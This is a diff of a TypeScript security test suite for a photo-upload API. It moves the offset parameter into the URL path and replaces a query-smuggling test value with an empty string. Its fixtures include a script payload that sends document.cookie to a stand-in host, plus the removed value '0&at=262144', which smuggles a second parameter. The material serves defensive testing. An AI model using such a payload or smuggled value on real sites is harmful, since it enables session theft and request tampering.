@@ -21,7 +21,7 @@ const script = ascii('<script>fetch("https://elsewhere.test/"+document.cookie)</
 const gps = ascii('GPSLatitude 51.1465 GPSLongitude 0.8750')
 
 const put = (bytes: Uint8Array, at = 0, hash = hashOf(bytes), headers = {}) =>
-  office.fetch(`/api/photos/${hash}?at=${at}`, {
+  office.fetch(`/api/photos/${hash}/${at}`, {
     method: 'PUT',
     headers: { Cookie: pcso, ...headers },
     body: Uint8Array.from(bytes),
@@ -140,14 +140,14 @@ describe('hostile uploads', () => {
     ['infinity', 'Infinity'],
     ['a billion', 1e9],
     ['words', 'x'],
-    ['two', '0&at=262144'],
+    ['nothing', ''],
   ])('a part that begins at %s is not stored', async (said, at) => {
     const whole = file.padded(baseline(), 2 * PART_BYTES)
     await office.push(pcso, `d-${++seq}`, [showing(whole, {}, 1)])
     office.bucket.objects.clear()
     await attack('upload by offset', said, async () => {
       const { status } = await put(whole.subarray(0, PART_BYTES), at as number, hashOf(whole))
-      return status >= 500 || (said !== 'two' && isStored())
+      return status >= 500 || isStored()
     })
   })
 
